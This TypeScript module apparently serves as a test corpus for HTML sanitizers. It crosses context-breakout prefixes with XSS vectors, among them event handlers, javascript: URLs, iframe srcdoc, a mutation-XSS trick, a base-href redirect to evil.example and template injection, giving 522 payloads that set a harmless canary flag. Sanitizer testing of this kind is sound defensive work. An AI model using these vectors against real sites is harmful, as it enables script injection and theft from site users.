/** What Mallory writes where others read: should one of them ever run, it says so by a mark on the page. */
const deed = 'window.stung=true'

/** What she hopes to step out of: an attribute, a field, a comment, a text of a drawing, a template. */
const steps = [
  '',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
]
const more = ['</text></svg>', '\u2028', '\\"', '&quot;&gt;', '\u00bc', '{{']

const scripts = [
  `<script>${deed}</script>`,
  `<ScRiPt/x>${deed}</sCrIpT >`,
  `<img src=x onerror="${deed}">`,
  `<img/src=x/onerror=${deed}>`,
  `<svg onload=${deed}>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.${deed.slice(7)}</script>"></iframe>`,
  `<iframe src="javascript:parent.${deed.slice(7)}"></iframe>`,
  `<details open ontoggle=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<math><mtext><table><mglyph><style></math><img src=x onerror=${deed}>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `<template><script>${deed}</script></template>`,
  `<a href="javascript:${deed}">read</a>`,
  `[read](javascript:${deed})`,
  `[read](JaVaScRiPt&colon;${deed})`,
  `![x](x"onerror="${deed})`,
  `<object data="data:text/html,<script>${deed}</script>"></object>`,
  `<embed src="javascript:${deed}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  `<form action="javascript:${deed}"><button autofocus>`,
  `<video><source onerror=${deed}></video>`,
  `<body onload=${deed}>`,
  `<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="${deed}">`,
  ` onmouseover=${deed} autofocus onfocus=${deed} x=`,
  `{{constructor.constructor('${deed}')()}}`,
  `\${${deed}}`,
]

/** Every script behind every step: 522 texts. */
export const mischief: readonly string[] = [...steps, ...more].flatMap((step) =>
  scripts.map((script) => step + script),
)
